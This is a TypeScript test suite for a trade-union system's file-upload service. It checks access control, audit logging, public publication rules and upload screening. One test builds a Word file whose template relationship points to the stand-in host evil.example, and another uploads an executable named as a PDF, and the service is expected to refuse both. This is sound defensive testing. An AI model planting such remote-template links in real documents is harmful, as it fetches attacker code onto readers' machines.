import { randomUUID } from 'node:crypto'
import { mkdtemp } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { FastifyInstance } from 'fastify'
import { beforeAll, expect, test } from 'vitest'
import type { Caller } from '#kernel/access'
import { whoSaw } from '#kernel/audit'
import { clock } from '#kernel/calendar'
import { transaction, type Reach, type Transaction } from '#kernel/database'
import { answerErrors, bareServer, mount, throttle } from '#kernel/http'
import { freshDatabase } from '#kernel/testing'
import { isRefusal } from '#kernel/refusal'
import { fileRoutes, filesKnown, filesOf, keepFile, keepFilesUnder, linkFile } from './index.ts'
import { jpeg } from './image-probe.ts'
import { zipOf } from './zip-probe.ts'

const { owner, login } = await freshDatabase()
keepFilesUnder(await mkdtemp(join(tmpdir(), 'files-')))
await owner.query(
  `insert into role (id, title, sector, way, may, sees) values ('r', '岗位', '工会', 'division', '{}', 0) on conflict do nothing`,
)

const day = '2026-04-07'

/** Somebody with a post: who it is, where the post stands, and how far it reaches. */
async function somebody(
  name: string,
  way: Reach['way'],
  stands: { place: number; node: number | null; lo?: number; hi?: number; sees?: number },
): Promise<Caller> {
  const [account, post, organisation] = [randomUUID(), randomUUID(), randomUUID()]
  await owner.query(`insert into account (id, login, name, organisation_name, place) values ($1, $2, $3, $3, $4)`, [
    account,
    account,
    name,
    stands.place,
  ])
  await owner.query(
    `insert into post (id, account, role, organisation, organisation_name, place, node, from_day) values ($1, $2, 'r', $3, $4, $5, $6, '2026-01-01')`,
    [post, account, organisation, name, stands.place, stands.node],
  )
  const bounds = stands.lo === undefined || stands.hi === undefined ? {} : { lo: stands.lo, hi: stands.hi }
  const reach: Reach = {
    way,
    account,
    post,
    organisation,
    today: day,
    ...bounds,
    ...(stands.sees !== undefined && { sees: stands.sees }),
    ...(way === 'self' && { person: randomUUID() }),
  }
  return {
    account,
    name,
    person: reach.person ?? null,
    post: { id: post, role: 'r', organisation, organisationName: name, sector: '工会', division: null },
    may: new Set<string>(),
    reach,
    today: day,
    transaction: <T>(work: (tx: Transaction) => Promise<T>) => transaction(login, reach, work),
  } as unknown as Caller
}

const unit = await somebody('清河县第一机械厂工会', 'unit', { place: 110, node: 5000, lo: 5000, hi: 5099 })
const county = await somebody('清河县总工会', 'division', { place: 100, node: 4000, lo: 100, hi: 199 })
const otherCounty = await somebody('云中县总工会', 'division', { place: 200, node: 4100, lo: 200, hi: 299 })
const administrator = await somebody('清河县系统管理员', 'division', {
  place: 100,
  node: 4000,
  lo: 100,
  hi: 199,
  sees: 0,
})
const police = await somebody('清河县公安局', 'party', { place: 100, node: null })
const worker = await somebody('王小虎', 'self', { place: 110, node: null })
const visitor = {
  account: null,
  person: null,
  name: null,
  post: null,
  may: new Set(),
  reach: { way: 'public', today: day },
  today: day,
  transaction: <T>(work: (tx: Transaction) => Promise<T>) => transaction(login, { way: 'public', today: day }, work),
} as unknown as Caller
const callers: Record<string, Caller> = { unit, county, otherCounty, administrator, police, worker }

let app: FastifyInstance
beforeAll(async () => {
  app = await bareServer({ log: false, trustProxy: false })
  answerErrors(app, { demo: true, styles: [] })
  mount(app, fileRoutes, {
    gate: { callerOf: async request => callers[request.cookies['session'] ?? ''] ?? visitor, titleOf: id => id },
    throttle: throttle(5, clock.instant),
    proof: true,
  })
  await app.ready()
  return () => app.close()
})

async function upload(who: string, name: string, bytes: Uint8Array, fields: Record<string, string> = {}) {
  const form = new FormData()
  for (const [key, value] of Object.entries(fields)) form.set(key, value)
  form.set('file', new File([new Uint8Array(bytes)], name))
  const request = new Request('http://localhost/api/files', { method: 'POST', body: form })
  const headers = {
    'content-type': request.headers.get('content-type') ?? '',
    origin: 'http://localhost',
    host: 'localhost',
    'sec-fetch-site': 'same-origin',
    'x-jiangpu-csrf': '1',
    cookie: `session=${who}`,
  }
  const reply = await app.inject({
    method: 'POST',
    url: '/api/files',
    headers,
    payload: Buffer.from(await request.arrayBuffer()),
  })
  return {
    status: reply.statusCode,
    body: reply.json<{ id: string; name: string; code?: string; what?: string; remedy?: string }>(),
  }
}
const get = (who: string, path: string) => app.inject({ url: `/api${path}`, headers: { cookie: `session=${who}` } })

test('a unit hands in a photograph; the county above opens it, the county beside does not know it', async () => {
  const { status, body } = await upload('unit', '近景.png', jpeg(413, 579))
  expect(status).toBe(200)
  expect(body).toMatchObject({ name: '近景.jpg', kind: 'jpg', pixels: { width: 413, height: 579 }, encrypted: false })
  const opened = await get('county', `/files/${body.id}`)
  expect(opened.statusCode).toBe(200)
  expect(opened.headers).toMatchObject({
    'content-type': 'image/jpeg',
    'x-content-type-options': 'nosniff',
    'content-disposition': `attachment; filename*=UTF-8''${encodeURIComponent('近景.jpg')}`,
  })
  expect(opened.rawPayload.includes('GPS')).toBe(false)
  expect((await get('county', `/files/${body.id}/preview`)).headers['content-disposition']).toContain('inline')
  expect((await get('otherCounty', `/files/${body.id}`)).statusCode).toBe(404)
  expect((await get('', `/files/${body.id}`)).statusCode).toBe(401)
})

test('what the county hands in is not its units’ to read', async () => {
  const { body } = await upload('county', '回函.pdf', Buffer.from('%PDF-1.7 reply'))
  expect((await get('unit', `/files/${body.id}`)).statusCode).toBe(404)
})

test('a refusal keeps its reason and its remedy on the way out', async () => {
  const { status, body } = await upload('unit', '证书.pdf', Buffer.from('MZ program'))
  expect(status).toBe(415)
  expect(body).toMatchObject({
    code: 'files.executable',
    what: '“证书.pdf”是程序或脚本，不是文书',
    remedy: expect.stringContaining('PDF') as string,
  })
})

test('a department reads what is shared with it and what it handed in itself', async () => {
  const { body } = await upload('county', '名单.pdf', Buffer.from('%PDF-1.7 list'))
  expect((await get('police', `/files/${body.id}`)).statusCode).toBe(404)
  await county.transaction(tx => linkFile(tx, body.id, 'organisation', police.post?.organisation ?? ''))
  expect((await get('police', `/files/${body.id}`)).statusCode).toBe(200)
  const own = await upload('police', '回复.pdf', Buffer.from('%PDF-1.7 answer'))
  expect((await get('police', `/files/${own.body.id}`)).statusCode).toBe(200)
  expect((await get('county', `/files/${own.body.id}`)).statusCode).toBe(200)
})

test('a worker reads own files, the employer does not', async () => {
  const { body } = await upload('worker', '证书.jpg', jpeg(800, 600), { class: '敏感' })
  expect((await get('worker', `/files/${body.id}`)).statusCode).toBe(200)
  expect((await get('unit', `/files/${body.id}`)).statusCode).toBe(404)
})

test('the most sensitive class asks for a purpose, and every opening is on record before the answer', async () => {
  const { body } = await upload('county', '诊断证明.pdf', Buffer.from('%PDF-1.7 illness'), { class: '极敏感' })
  expect((await get('county', `/files/${body.id}`)).json()).toMatchObject({ code: 'files.purpose' })
  const opened = await get('county', `/files/${body.id}?purpose=${encodeURIComponent('核定困难帮扶')}`)
  expect(opened.body).toBe('%PDF-1.7 illness')
  expect(await county.transaction(tx => whoSaw(tx, body.id))).toMatchObject([
    { act: 'download', purpose: '核定困难帮扶', name: '清河县总工会' },
  ])
})

test('what is 公开 is fetched by whoever logs in, and by strangers only once it hangs on a published page', async () => {
  const { body } = await upload('county', '公示.pdf', Buffer.from('%PDF-1.7 notice'), { class: '公开' })
  expect((await get('otherCounty', `/public/files/${body.id}`)).body).toBe('%PDF-1.7 notice')
  expect((await get('', `/public/files/${body.id}`)).statusCode).toBe(404)
  await county.transaction(tx => linkFile(tx, body.id, 'published', randomUUID()))
  expect((await get('', `/public/files/${body.id}`)).body).toBe('%PDF-1.7 notice')
  const inside = await upload('county', '底稿.pdf', Buffer.from('%PDF-1.7 draft'))
  expect((await get('', `/public/files/${inside.body.id}`)).statusCode).toBe(404)
})

test('a form whose template lies on another machine is refused at the door', async () => {
  const rels =
    '<Relationships><Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>'
  const form = zipOf({
    '[Content_Types].xml': '<Types/>',
    'word/document.xml': '<a/>',
    'word/_rels/settings.xml.rels': rels,
  })
  expect(await upload('county', '表样.docx', form)).toMatchObject({ status: 415, body: { code: 'files.external' } })
})

test('only an office puts in what is 公开, and that it did is on record', async () => {
  for (const who of ['unit', 'worker', 'police'])
    expect(await upload(who, '广告.pdf', Buffer.from('%PDF-1.7 advert'), { class: '公开' })).toMatchObject({
      status: 403,
      body: { code: 'files.public' },
    })
  const { body } = await upload('county', '表样.pdf', Buffer.from('%PDF-1.7 form'), { class: '公开' })
  const { rows } = await owner.query<{ what: string }>(`select what from change_log where subject = $1`, [body.id])
  expect(rows).toEqual([{ what: '上传公开文件' }])
})

test('a post that sees no field group fetches nothing of its territory, and still what it handed in itself', async () => {
  const { body } = await upload('unit', '推荐表.pdf', Buffer.from('%PDF-1.7 nominee'))
  expect((await get('county', `/files/${body.id}`)).statusCode).toBe(200)
  expect((await get('administrator', `/files/${body.id}`)).statusCode).toBe(404)
  expect(await administrator.transaction(tx => filesKnown(tx, [body.id]))).toEqual([])
  const own = await upload('administrator', '账号.csv', Buffer.from('姓名,登录名\n王小虎,wang\n'))
  expect((await get('administrator', `/files/${own.body.id}`)).statusCode).toBe(200)
})

test('a visitor’s evidence is kept for the office and never read back by visitors', async () => {
  const kept = await visitor.transaction(tx =>
    keepFile(tx, { name: '照片.jpg', bytes: jpeg(10, 10), class: '敏感', place: 100 }),
  )
  if (isRefusal(kept)) throw new Error(kept.what)
  expect(await visitor.transaction(tx => filesKnown(tx, [])).catch((error: unknown) => String(error))).toContain(
    'permission denied',
  )
  expect((await get('county', `/files/${kept.id}`)).statusCode).toBe(200)
})

test('attachments of a case are listed with their digests', async () => {
  const kase = randomUUID()
  const { body } = await upload('unit', '纪要.pdf', Buffer.from('%PDF-1.7 minutes'))
  await unit.transaction(tx => linkFile(tx, body.id, 'kase', kase))
  const [file] = await county.transaction(tx => filesOf(tx, 'kase', kase))
  expect(file).toMatchObject({ id: body.id, name: '纪要.pdf', class: '内部', bytes: 16, since: day })
  expect(file?.sm3).toMatch(/^[0-9a-f]{64}$/)
})
